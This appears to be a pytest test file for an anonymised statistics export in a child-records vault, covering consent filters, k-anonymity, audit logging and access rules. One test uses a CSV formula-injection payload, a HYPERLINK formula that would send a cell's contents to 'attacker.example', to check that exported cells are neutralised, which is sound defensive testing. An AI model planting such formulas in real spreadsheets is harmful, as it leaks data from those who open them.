"""Anonymised statistical exports (M-3, M-14): consent and retention filters,
generalisation, k-anonymity by suppression, formula neutralisation, logging
before decryption, and the officer-only rule."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from childvault.cli.main import cli
from childvault.keys import AccessDenied, DecryptionFailed, LocalProvider, UsageError
from childvault.vault import NewRecordInput, Vault
from childvault.vault._reports import age_band, neutralise_cell
from tests.compliance._notice import filled_notice
from tests.conftest import PASSPHRASES, World, child_values, consent, lower_export_k

QUASI_COLUMNS = [
    "record_type",
    "sex",
    "date_of_birth_age_band",
    "address_district",
    "difficulty_category",
    "count",
]


def _add(v: Vault, indices: range, *, purposes: tuple[str, ...], **kw: Any) -> list[str]:
    overrides = kw.pop("overrides", {})
    return v.add_records(
        [
            NewRecordInput("child", child_values(i, **overrides), consent(purposes, **kw))
            for i in indices
        ]
    )


def _rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def _export_entries(world: World) -> list[dict[str, Any]]:
    with world.open("admin") as v:
        return [
            e["entry"] for e in v.audit_entries() if e["entry"]["action"] == "export.anonymized"
        ]


def test_export_is_k_anonymous_consented_and_free_of_direct_identifiers(
    world: World, tmp_path: Path
) -> None:
    with world.open("worker1") as v:
        # 12 children in one district (6 girls, 6 boys), 2 in another district
        # (a girl and a boy: classes too small to publish), 3 who did not
        # consent to statistics.
        _add(v, range(12), purposes=("case_management", "statistics"))
        _add(
            v,
            range(12, 14),
            purposes=("statistics",),
            overrides={"address": "上海市浦东新区张江镇测试路1号"},
        )
        _add(v, range(14, 17), purposes=("case_management",))
    out = tmp_path / "stats.csv"
    with world.open("officer1") as v:
        summary = v.export_anonymized(out, k=5)

    rows = _rows(out)
    assert list(rows[0]) == QUASI_COLUMNS
    assert rows == [
        {
            "record_type": "child",
            "sex": sex,
            "date_of_birth_age_band": "6-11",
            "address_district": "北京市朝阳区",
            # Every child of each group has the same category: l-diversity
            # suppresses it (issue 15 finding 5).
            "difficulty_category": "suppressed",
            "count": "6",
        }
        for sex in ("female", "male")
    ]
    assert all(int(r["count"]) >= 5 for r in rows)
    assert summary.records == 14 and summary.records_exported == 12
    assert summary.suppressed_records == 2 and summary.suppressed_classes == 2
    assert summary.to_json()["excluded"] == {
        "no_statistics_consent": 3,
        "past_retention": 0,
        "outdated_notice": 0,
    }
    assert out.stat().st_mode & 0o777 == 0o600

    text = out.read_text(encoding="utf-8-sig")
    for i in range(17):
        values = child_values(i)
        for f in ("name", "id_number", "guardian_name", "guardian_phone", "school", "case_notes"):
            assert values[f] not in text
        assert values["address"] not in text and "测试街道" not in text
        assert values["date_of_birth"] not in text
    assert "上海" not in text  # the suppressed class leaves no trace


def test_export_excludes_expired_records_and_outdated_notices(world: World, tmp_path: Path) -> None:
    # An older notice "2025-9" was in force when two records were consented.
    from importlib import resources

    template = resources.files("childvault.vault").joinpath("data/notice-template.md").read_bytes()
    with world.open("admin") as v:
        v.publish_notice("2025-9", filled_notice("旧版告知书 / old notice"))
    with world.open("worker1") as v:
        _add(v, range(7, 9), purposes=("statistics",), notice_version="2025-9")
    with world.open("admin") as v:
        v.publish_notice("2026-1", template)  # the current notice again
    with world.open("worker1") as v:
        _add(v, range(5), purposes=("statistics",))
        _add(v, range(5, 7), purposes=("statistics",), retain_until=date(2027, 1, 1))
    world.clock.now = datetime(2027, 2, 1, 9, 0, tzinfo=UTC)
    with world.open("officer1") as v:
        lower_export_k(v)
        summary = v.export_anonymized(tmp_path / "s.csv", k=3)
    assert summary.to_json()["excluded"] == {
        "no_statistics_consent": 0,
        "past_retention": 2,
        "outdated_notice": 2,
    }
    assert summary.records == 5
    # Ages are taken on the export date: still 10 in February 2027.
    assert {r["date_of_birth_age_band"] for r in _rows(tmp_path / "s.csv")} == {"6-11"}


def test_export_logs_each_batch_before_decrypting_and_the_counts_after(
    world: World, tmp_path: Path
) -> None:
    with world.open("worker1") as v:
        ids = _add(v, range(60), purposes=("statistics",))
    with world.open("officer1") as v:
        summary = v.export_anonymized(tmp_path / "s.csv", k=5)
    entries = _export_entries(world)
    batches = [e for e in entries if e["detail"].get("stage") == "decrypt"]
    assert [len(e["records"]) for e in batches] == [50, 10]
    assert sorted(r for e in batches for r in e["records"]) == sorted(ids)
    for e in batches:
        # Only quasi identifiers are decrypted, never a name or number.
        assert e["fields"] == ["sex", "date_of_birth", "address", "difficulty_category"]
        assert e["purpose"] == "statistics" and e["actor"] == "officer1"
    done = entries[-1]
    assert done["detail"]["stage"] == "done" and done["records"] == []
    assert done["detail"]["k"] == 5 and done["detail"]["records"] == 60
    assert done["detail"]["classes"] == summary.classes
    assert done["detail"]["suppressed_records"] == summary.suppressed_records
    assert done["detail"]["sha256"] == summary.sha256
    text = json.dumps(entries, ensure_ascii=False)
    assert "北京" not in text and "male" not in text


def test_a_failed_release_leaves_the_logged_batch_an_error_entry_and_no_file(
    world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with world.open("worker1") as v:
        _add(v, range(3), purposes=("statistics",))

    def broken(*_a: object, **_k: object) -> bytes:
        raise DecryptionFailed("simulated")

    with world.open("officer1") as v:
        lower_export_k(v)
    monkeypatch.setattr(LocalProvider, "release", broken)
    out = tmp_path / "s.csv"
    with world.open("officer1") as v, pytest.raises(DecryptionFailed):
        v.export_anonymized(out, k=3)
    assert not out.exists()
    entries = _export_entries(world)
    assert [(e["outcome"], e["detail"]["stage"]) for e in entries] == [
        ("ok", "decrypt"),  # logged and committed before the keys were asked for
        ("error", "failed"),
    ]


@pytest.mark.parametrize("who", ["worker1", "admin"])
def test_only_officers_export_and_refusals_are_logged(
    world: World, tmp_path: Path, who: str
) -> None:
    out = tmp_path / "s.csv"
    with world.open(who) as v, pytest.raises(AccessDenied):
        v.export_anonymized(out)
    assert not out.exists()
    entry = _export_entries(world)[-1]
    assert (entry["actor"], entry["outcome"]) == (who, "denied")


def test_export_parameters_are_checked(world: World, tmp_path: Path) -> None:
    with world.open("officer1") as v:
        for k in (2, 1, 0, True):
            with pytest.raises(UsageError):
                v.export_anonymized(tmp_path / "s.csv", k=k)
        with pytest.raises(UsageError, match="does not exist"):
            v.export_anonymized(tmp_path / "missing" / "s.csv")


def test_formula_prefixes_are_neutralised() -> None:
    for cell in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("http://x")'):
        assert neutralise_cell(cell) == "'" + cell
    for cell in ("", "6-11", "北京市朝阳区", "male", "'quoted"):
        assert neutralise_cell(cell) == cell


def test_formula_in_a_generalised_value_is_neutralised_end_to_end(
    world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """District names cannot start with '=' today; if a rule ever let one
    through, the written cell must still be inert."""
    import childvault.vault._reports as reports

    evil = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
    monkeypatch.setattr(reports, "district_of", lambda _address: evil)
    with world.open("worker1") as v:
        _add(v, range(6), purposes=("statistics",))
    out = tmp_path / "s.csv"
    with world.open("officer1") as v:
        lower_export_k(v)
        v.export_anonymized(out, k=3)
    rows = _rows(out)
    assert {r["address_district"] for r in rows} == {"'" + evil}
    raw = out.read_text(encoding="utf-8-sig")
    assert not any(line.startswith("=") or ",=" in line for line in raw.splitlines())


def test_age_bands_at_their_boundaries() -> None:
    day = date(2026, 6, 1)
    cases = {
        date(2026, 6, 1): "0-2",
        date(2023, 6, 2): "0-2",
        date(2023, 6, 1): "3-5",
        date(2020, 6, 1): "6-11",
        date(2014, 6, 2): "6-11",
        date(2014, 6, 1): "12-13",
        date(2012, 6, 1): "14-17",
        date(2008, 6, 2): "14-17",
        date(2008, 6, 1): "18+",
        date(2026, 6, 2): "unknown",
    }
    for birth, band in cases.items():
        assert age_band(birth, day) == band, birth


def test_cli_export_writes_the_file_with_mode_0600(world: World, tmp_path: Path) -> None:
    with world.open("worker1") as v:
        _add(v, range(6), purposes=("statistics",))
    with world.open("officer1") as v:
        lower_export_k(v)
    out = tmp_path / "stats.csv"
    env = {
        "CHILDVAULT_HOME": str(world.home),
        "CHILDVAULT_USER": "officer1",
        "CHILDVAULT_PASSPHRASE": PASSPHRASES["officer1"],
    }
    r = CliRunner().invoke(
        cli, ["--json", "export", "anonymized", "--out", str(out), "--k", "3"], env=env
    )
    assert r.exit_code == 0, r.output
    doc = json.loads(r.stdout)
    assert doc["ok"] and doc["k"] == 3 and doc["records"] == 6
    assert out.stat().st_mode & 0o777 == 0o600
    assert sum(int(row["count"]) for row in _rows(out)) == doc["records_exported"]
